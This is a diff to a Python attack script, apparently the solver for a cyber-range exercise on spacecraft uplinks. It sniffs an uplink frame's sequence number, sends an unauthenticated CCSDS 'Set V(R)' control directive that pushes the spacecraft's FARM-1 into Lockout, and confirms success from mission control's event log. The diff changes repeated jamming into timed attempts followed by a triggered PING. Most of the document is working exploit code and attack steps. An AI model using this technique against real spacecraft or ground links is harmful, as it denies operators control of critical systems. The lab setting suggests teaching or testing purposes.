@@ -4,14 +4,17 @@
    uplink frame there): each type-AD frame's header gives the SCID, the virtual channel
    and N(S); the station's next frame will carry N(S) + 1. The frame's data is
    authenticated (SDLS); its header is not secret.
-2. Keep transmitting, every half second, a clear BC frame *Set V(R)* to rf-link:5100 that
-   puts FARM-1's V(R) half the sequence space away from the station's next N(S). The
-   spacecraft accepts control commands without SDLS, so its V(R) moves; the station's
-   next authenticated frame lies outside FARM-1's window, and FARM-1 enters Lockout: the
-   spacecraft refuses every AD frame until an Unlock. (One directive is not enough: the
-   station notices FARM-1's reports out of step and re-initiates by itself, often before
-   it sends its next frame; a persistent attacker is always there first.)
-3. The evidence: the spacecraft's fault detection reports the lockout (FARM_LOCKOUT) with
+2. Transmit a clear BC frame *Set V(R)* to rf-link:5100 that puts FARM-1's V(R) half the
+   sequence space away from the station's next N(S). The spacecraft accepts control
+   commands without SDLS, so its V(R) moves. When the station's next authenticated frame
+   arrives, it lies outside FARM-1's window: FARM-1 enters Lockout and refuses every AD
+   frame until an Unlock.
+3. Timing: the station's FOP-1 reads FARM-1's reports (CLCW) and, after a few that are
+   out of step, stops and re-initiates the link itself (Set V(R)): the directive must come
+   shortly before the station's next frame. A patient attacker learns when routine
+   commands go out (every 15 s here); to be quick, this script asks mission control for a
+   PING with the student's own account right after its directive.
+4. The evidence: the spacecraft's fault detection reports the lockout (FARM_LOCKOUT) with
    a reference, in mission control's event log; read it with the student's own account.
 
 Exit status 0 when the spacecraft reported a lockout quoting the reference, 2 when no
@@ -30,8 +33,7 @@ from labctl.range import wiring
 from labctl.range.missionclient import MissionControl, MissionControlError
 
 LISTEN_S = 45.0
-#: How long to keep the station locked out at most (operations send every 15 s).
-ATTACK_S = 40.0
+TRIES = 3
 RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
 HALF_SPACE = 128
 REFERENCE = re.compile(r"LOCKOUT\{[0-9a-f]+\}")
@@ -76,12 +78,15 @@ def last_event_id(mc: MissionControl) -> int:
     return int(events[0]["id"]) if events else 0
 
 
-def evidence(mc: MissionControl, after: int) -> str | None:
+def evidence(mc: MissionControl, after: int, seconds: float) -> str | None:
     """The reference quoted by a FARM_LOCKOUT event newer than event ``after``."""
-    for event in mc.request("GET", "/api/events?limit=50")["events"]:
-        found = REFERENCE.search(event.get("aux_text") or "")
-        if event["id"] > after and event["name"] == "FARM_LOCKOUT" and found:
-            return found.group(0)
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        for event in mc.request("GET", "/api/events?limit=50")["events"]:
+            found = REFERENCE.search(event.get("aux_text") or "")
+            if event["id"] > after and event["name"] == "FARM_LOCKOUT" and found:
+                return found.group(0)
+        time.sleep(1.0)
     return None
 
 
@@ -91,23 +96,26 @@ def main() -> int:
         mc = MissionControl.from_file()
         before = last_event_id(mc)
         print(f"listening on the uplink air (UDP {wiring.UPLINK_AIR})...", flush=True)
-        heard_by = time.monotonic() + LISTEN_S
-        while air.last is None and time.monotonic() < heard_by:
-            air.listen(0.5)
-        if air.last is None:
-            print("no uplink frame heard")
-            return 2
-        last = air.last
-        print(f"heard N(S)={last.seq} SCID={last.scid} VC={last.vcid}", flush=True)
-        deadline = time.monotonic() + ATTACK_S
-        sent = 0
-        while time.monotonic() < deadline:
+        for _attempt in range(TRIES):
+            heard_by = time.monotonic() + LISTEN_S
+            air.last = None
+            while air.last is None and time.monotonic() < heard_by:
+                air.listen(0.5)
+            if air.last is None:
+                print("no uplink frame heard")
+                return 2
+            air.listen(1.0)  # the rest of a burst: the newest N(S)
+            last = air.last
             vr = air.force_lockout()
-            sent += 1
-            air.listen(0.5)
-            if sent % 4 == 0 and (reference := evidence(mc, before)) is not None:
-                print(f"sent {sent} clear Set V(R) (last V(R)={vr}); the station is locked out:")
-                print(f"FARM_LOCKOUT event quotes {reference}")
+            mc.request("POST", "/api/commands", {"name": "PING", "args": {}})
+            print(
+                f"heard N(S)={last.seq} SCID={last.scid} VC={last.vcid}; sent clear"
+                f" Set V(R)={vr}, then a PING from mission control",
+                flush=True,
+            )
+            reference = evidence(mc, before, 15.0)
+            if reference is not None:
+                print(f"FARM_LOCKOUT event quotes {reference}: the station is locked out")
                 return 0
     except MissionControlError as exc:
         print(f"mission control: {exc}")
